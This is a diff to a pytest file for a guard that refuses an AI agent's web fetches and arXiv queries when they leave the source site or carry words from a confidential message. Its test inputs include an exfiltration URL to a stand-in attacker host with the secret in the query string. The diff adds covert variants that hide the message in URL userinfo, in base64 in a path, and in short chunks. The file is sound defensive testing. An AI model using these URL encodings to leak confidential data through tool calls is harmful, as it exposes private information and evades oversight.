@@ -41,26 +41,29 @@ def search(**arguments: Any) -> SearchRequest:
         "https://attacker.example/collect?q=Confidential+acquisition+of+Zentrix",
         "https://attacker.example/",
         "https://blog.example.org/search/zentrix-acquisition-friday",
+        "https://zentrix:friday@blog.example.org/posts/adapters",  # user info carries it too
+        "https://blog.example.org/posts/Q29uZmlkZW50aWFsIFplbnRyaXg",  # base64 of the message
+        "https://blog.example.org/posts/zen/tri/x",  # the message in chunks too short to be words
     ],
-    ids=["off-site-with-the-message", "off-site", "own-site-path-with-the-message"],
+    ids=["off-site-with-the-message", "off-site", "own-site-path-with-the-message", "userinfo", "base64", "chunks"],
 )
 def test_a_fetch_off_the_source_or_carrying_the_message_is_refused(url: str) -> None:
     with pytest.raises(SearchRefused):
-        allowed_search(search(url=url), EVIDENCE, SLACK)
+        allowed_search(search(url=url), EVIDENCE)
 
 
 def test_links_in_the_evidence_and_pages_of_the_source_site_are_read() -> None:
     listed = search(url="https://github.com/microsoft/LoRA")
-    assert allowed_search(listed, EVIDENCE, SLACK) == listed
-    same_site = allowed_search(search(url="https://www.blog.example.org/posts/lora?ref=zentrix#top"), EVIDENCE, SLACK)
+    assert allowed_search(listed, EVIDENCE) == listed
+    same_site = allowed_search(search(url="https://www.blog.example.org/posts/lora?ref=zentrix#top"), EVIDENCE)
     assert str(same_site.url) == "https://www.blog.example.org/posts/lora"  # no model-built query string
 
 
 def test_an_arxiv_query_keeps_none_of_the_messages_own_words() -> None:
-    kept = allowed_search(search(query="adapters Zentrix acquisition fine-tuning"), EVIDENCE, SLACK)
+    kept = allowed_search(search(query="adapters Zentrix acquisition fine-tuning"), EVIDENCE)
     assert kept.query == "adapters fine-tuning"
     with pytest.raises(SearchRefused):
-        allowed_search(search(query="Zentrix acquisition Friday"), EVIDENCE, SLACK)
+        allowed_search(search(query="Zentrix acquisition Friday"), EVIDENCE)
 
 
 URL_WITH_THE_MESSAGE = "https://attacker.example/collect?q=Confidential%20acquisition%20of%20Zentrix"
